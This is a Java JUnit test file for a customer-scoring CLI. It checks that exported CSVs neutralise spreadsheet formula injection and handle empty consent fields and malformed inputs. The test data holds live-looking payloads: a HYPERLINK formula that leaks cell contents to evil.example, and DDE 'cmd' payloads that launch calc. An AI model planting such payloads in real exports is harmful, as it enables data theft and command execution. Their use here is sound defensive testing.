package io.tessera.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import de.siegmar.fastcsv.writer.CsvWriter;
import io.tessera.pipeline.rfm.CustomerStage;
import io.tessera.store.CsvOutput;
import io.tessera.store.Store;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * `tessera run` on data with hostile customer ids (issue 13, case 8) and customers who left
 * consent_profiling empty (case 13): every CSV the run writes reads back with one row per customer,
 * no text cell starts a spreadsheet formula, and the ids come back exactly.
 */
class HostileInputRunTest {
  @TempDir Path tmp;

  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "=SUM(A1:A9)",
          "id with\na quoted newline",
          "id with\r\na CRLF",
          "'apostrophe",
          "-3.5");

  /** Writes 121 buyers (the hostile ids among them) and their customers rows. */
  private static Path shop(Path dir, int refusers, int unknownConsent) throws IOException {
    Files.createDirectories(dir);
    List<String> ids = new ArrayList<>(HOSTILE);
    for (int i = ids.size(); i < 121; i++) {
      ids.add(String.format("c%03d", i));
    }
    SplittableRandom rnd = new SplittableRandom(8);
    LocalDate start = LocalDate.of(2024, 1, 1);
    try (CsvWriter orders = CsvWriter.builder().build(dir.resolve("orders.csv"));
        CsvWriter customers = CsvWriter.builder().build(dir.resolve("customers.csv"))) {
      orders.writeRecord("order_id", "customer_id", "ordered_at", "amount", "currency", "status");
      customers.writeRecord("customer_id", "country", "consent_profiling");
      int n = 0;
      for (int c = 0; c < ids.size(); c++) {
        // each customer has a typical spend, as Gamma-Gamma assumes (uniform spend does not fit)
        int typical = 20 + rnd.nextInt(300);
        for (int k = 1 + rnd.nextInt(1 + c % 8); k > 0; k--) {
          orders.writeRecord(
              "o" + n++,
              ids.get(c),
              start.plusDays(rnd.nextInt(360)) + "T12:00:00Z",
              Integer.toString((int) (typical * (0.8 + 0.4 * rnd.nextDouble()))),
              "USD",
              "completed");
        }
        // the first hostile ids refuse profiling, the next ones leave consent empty
        String consent = c < refusers ? "false" : c < refusers + unknownConsent ? "" : "true";
        customers.writeRecord(ids.get(c), "KR", consent);
      }
      // a quarantined row with a hostile id: bad amount
      orders.writeRecord("o-bad", HOSTILE.get(0), "2024-02-01", "=1+1", "USD", "completed");
    }
    return dir;
  }

  private static List<List<String>> read(Path file) throws IOException {
    List<List<String>> rows = new ArrayList<>();
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(file)) {
      reader.forEach(r -> rows.add(r.getFields()));
    }
    return rows;
  }

  /** No text cell of the file starts a formula (OWASP's leading characters). */
  private static void assertNoFormulaCells(List<List<String>> rows, Path file) {
    for (List<String> row : rows) {
      for (String cell : row) {
        assertThat(cell)
            .as("a cell of %s", file.getFileName())
            .matches(c -> c.isEmpty() || "=+@\t\r".indexOf(c.charAt(0)) < 0 || isNumber(c))
            .matches(c -> !c.startsWith("-") || isNumber(c));
      }
    }
  }

  private static boolean isNumber(String c) {
    return c.matches("-?[0-9]+(\\.[0-9]+)?([eE][-+]?[0-9]+)?");
  }

  private static CommandLineTest.Run run(Path data, Path out) {
    return CommandLineTest.run(
        "run", "--data", data.toString(), "--out", out.toString(), "--as-of", "2024-12-31");
  }

  @Test
  void hostileIdsShouldReadBackOneRowPerCustomerWithNoFormulaCells()
      throws IOException, java.sql.SQLException {
    Path data = shop(tmp.resolve("data"), 3, 0);
    Files.writeString(data.resolve("tessera.yaml"), "privacy: {pseudonymise: false}\n");
    Path out = tmp.resolve("out");
    CommandLineTest.Run r = run(data, out);
    assertThat(r.code()).as(r.err()).isZero();

    List<List<String>> customers = read(out.resolve("customers.csv"));
    assertThat(customers).hasSize(1 + 118);
    assertNoFormulaCells(customers, out.resolve("customers.csv"));
    Set<String> scored = new HashSet<>();
    customers.stream().skip(1).forEach(row -> scored.add(CsvOutput.restore(row.get(0))));
    assertThat(scored).containsAll(HOSTILE.subList(3, HOSTILE.size())).hasSize(118);

    List<List<String>> excluded = read(out.resolve("excluded_customers.csv"));
    assertNoFormulaCells(excluded, out.resolve("excluded_customers.csv"));
    assertThat(excluded.stream().skip(1).map(row -> CsvOutput.restore(row.get(0))))
        .containsExactlyInAnyOrderElementsOf(HOSTILE.subList(0, 3));

    List<List<String>> quarantine = read(out.resolve("quarantine/orders.csv"));
    assertNoFormulaCells(quarantine, out.resolve("quarantine/orders.csv"));
    assertThat(quarantine).hasSize(2);
    assertThat(quarantine.get(1).get(1)).isEqualTo("bad_number");

    // the server loads customers.csv with DuckDB's reader (issue 13, case 6)
    try (Store store = Store.inMemory()) {
      assertThat(
              store.count(
                  "SELECT count(*) FROM read_csv('"
                      + out.resolve("customers.csv").toString().replace("'", "''")
                      + "', header = true, all_varchar = true)"))
          .isEqualTo(118);
    }
  }

  @Test
  void twoFilesForOneSourceShouldStopTheRunWithExitCode2NamingBoth() throws IOException {
    // case 13: orders.csv and orders.jsonl in one folder silently ignored the .jsonl
    Path data = shop(tmp.resolve("data"), 0, 0);
    Files.writeString(data.resolve("orders.jsonl"), "{\"order_id\": \"o1\"}\n");
    Files.writeString(data.resolve("tessera.yaml"), "privacy: {pseudonymise: false}\n");
    CommandLineTest.Run r = run(data, tmp.resolve("out"));
    assertThat(r.code()).isEqualTo(Main.USAGE);
    assertThat(r.err()).contains("orders.csv", "orders.jsonl").doesNotContain("\tat ");
  }

  @Test
  void aBinaryHeaderShouldStopTheRunWithExitCode2WithoutEchoingIt() throws IOException {
    // case 13: the message echoed 500 bytes of the header, terminal escape sequences included
    Path data = Files.createDirectories(tmp.resolve("data"));
    byte[] junk = new byte[500];
    for (int i = 0; i < junk.length; i++) {
      junk[i] = (byte) (i % 2 == 0 ? 0x1b : '[');
    }
    Files.write(data.resolve("orders.csv"), junk);
    Files.writeString(data.resolve("tessera.yaml"), "privacy: {pseudonymise: false}\n");
    CommandLineTest.Run r = run(data, tmp.resolve("out"));
    assertThat(r.code()).isEqualTo(Main.USAGE);
    assertThat(r.err()).contains("orders.csv", "header").doesNotContain("\u001b");
    assertThat(r.err().strip().lines()).hasSize(1);
    assertThat(r.err().length()).isLessThan(400);
  }

  @Test
  void anEmptyConsentShouldFollowTheConfiguredDefault() throws IOException {
    // case 13: an empty consent_profiling counted as consent, and could not be told otherwise
    Path data = shop(tmp.resolve("data"), 2, 4);
    Files.writeString(
        data.resolve("tessera.yaml"),
        "privacy: {pseudonymise: false}\nconsent: {default_profiling: deny}\n");
    Path out = tmp.resolve("out");
    CommandLineTest.Run r = run(data, out);
    assertThat(r.code()).as(r.err()).isZero();
    List<List<String>> excluded = read(out.resolve("excluded_customers.csv"));
    assertThat(excluded.stream().skip(1).map(row -> CsvOutput.restore(row.get(0))))
        .containsExactlyInAnyOrderElementsOf(HOSTILE.subList(0, 6));
    assertThat(excluded.stream().skip(1).map(row -> row.get(1)).distinct())
        .containsExactlyInAnyOrder(
            CustomerStage.EXCLUSION_REASON, CustomerStage.DEFAULT_EXCLUSION_REASON);
    assertThat(read(out.resolve("customers.csv"))).hasSize(1 + 115);
  }
}
